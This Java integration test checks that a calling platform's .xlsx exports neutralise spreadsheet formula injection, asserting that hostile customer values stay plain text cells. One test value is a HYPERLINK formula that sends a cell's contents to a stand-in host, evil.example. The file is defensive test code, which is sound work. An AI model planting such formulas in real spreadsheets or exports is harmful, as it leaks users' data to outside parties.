package dev.outdial.report;

import static org.assertj.core.api.Assertions.assertThat;

import dev.outdial.testing.Api;
import dev.outdial.testing.CampaignFixtures;
import dev.outdial.testing.OutdialIntegrationTest;
import dev.outdial.testing.TestBusiness;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.OffsetDateTime;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import javax.xml.parsers.DocumentBuilderFactory;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.NodeList;

/**
 * The .xlsx exports read a second way, independent of the library that writes them: the workbook
 * unzipped and its sheet XML parsed with the JDK. Values a spreadsheet would run as formulas
 * (OWASP CSV injection: {@code =}, {@code +}, {@code -}, {@code @}) come back as the same text in
 * string cells, and no cell carries a formula ({@code <f>}). LibreOffice's reading of the same files
 * is recorded in bench/README.md.
 */
@OutdialIntegrationTest
class NoExportedCellIsAFormulaTest {

    private static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+1", "@SUM(A1:A2)", "-2+3");

    @Autowired
    Api api;
    @Autowired
    JdbcClient db;

    @Test
    void hostileCustomerValuesStayTextInTheCustomersAndCallsWorkbooks() throws Exception {
        TestBusiness business = api.newBusiness("formula-free");
        long campaign = new CampaignFixtures(business).create("Formula free", "MANUAL");
        business.admin().post("/api/v1/campaigns/" + campaign + "/customers", Map.of("customers", List.of(
                Map.of("name", HOSTILE.get(0), "phone", "+84912600001", "externalId", HOSTILE.get(1),
                        "fields", Map.of("note", HOSTILE.get(2))),
                Map.of("name", HOSTILE.get(3), "phone", "+84912600002")))).expect(201);
        long customer = business.admin().get("/api/v1/campaigns/" + campaign + "/customers?phone=%2B84912600001")
                .json().get("items").get(0).get("id").asLong();
        db.sql("""
                insert into call_record (id, business_id, campaign_id, customer_id, dialed_number, hotline, queued_at,
                    dialing_at, ended_at, result)
                values (?, ?, ?, ?, '+84912600001', '+842873000001', ?, ?, ?, 'BUSY')
                """).params("formula-free-call-" + campaign, business.id(), campaign, customer,
                        OffsetDateTime.parse("2026-03-02T09:00:00+07:00"), OffsetDateTime.parse("2026-03-02T09:00:00+07:00"),
                        OffsetDateTime.parse("2026-03-02T09:00:20+07:00"))
                .update();

        List<Element> customers = cells(business.admin()
                .download("/api/v1/campaigns/" + campaign + "/customers/export?format=xlsx").body());
        assertThat(customers).noneMatch(cell -> cell.getElementsByTagName("f").getLength() > 0);
        assertThat(customers.stream().filter(cell -> "inlineStr".equals(cell.getAttribute("t"))).map(Element::getTextContent))
                .containsAll(HOSTILE).contains("+84912600001");

        List<Element> calls = cells(business.admin()
                .download("/api/v1/campaigns/" + campaign + "/calls/export?format=xlsx").body());
        assertThat(calls).noneMatch(cell -> cell.getElementsByTagName("f").getLength() > 0);
        assertThat(calls.stream().filter(cell -> "inlineStr".equals(cell.getAttribute("t"))).map(Element::getTextContent))
                .contains(HOSTILE.get(0), "+84912600001", "BUSY");
    }

    /**
     * Every cell ({@code <c>}) of every worksheet in the workbook, read through the zip's central
     * directory as spreadsheet programs do. (fastexcel's streamed entries end in data descriptors with
     * 8-byte sizes and no zip64 extra field, which {@link java.util.zip.ZipInputStream} misreads.)
     */
    private static List<Element> cells(byte[] workbook) throws Exception {
        Path file = Files.createTempFile("export", ".xlsx");
        List<Element> cells = new ArrayList<>();
        int sheets = 0;
        try (ZipFile zip = new ZipFile(Files.write(file, workbook).toFile())) {
            for (ZipEntry entry : java.util.Collections.list(zip.entries())) {
                if (entry.getName().startsWith("xl/worksheets/") && entry.getName().endsWith(".xml")) {
                    sheets++;
                    try (InputStream sheet = zip.getInputStream(entry)) {
                        NodeList found = parse(sheet.readAllBytes()).getElementsByTagName("c");
                        for (int i = 0; i < found.getLength(); i++) {
                            cells.add((Element) found.item(i));
                        }
                    }
                }
            }
        } finally {
            Files.deleteIfExists(file);
        }
        assertThat(sheets).as("worksheets in the workbook").isPositive();
        return cells;
    }

    private static Document parse(byte[] xml) throws Exception {
        DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
        factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
        try {
            return factory.newDocumentBuilder().parse(new ByteArrayInputStream(xml));
        } catch (IOException e) {
            throw new AssertionError("unreadable sheet", e);
        }
    }
}
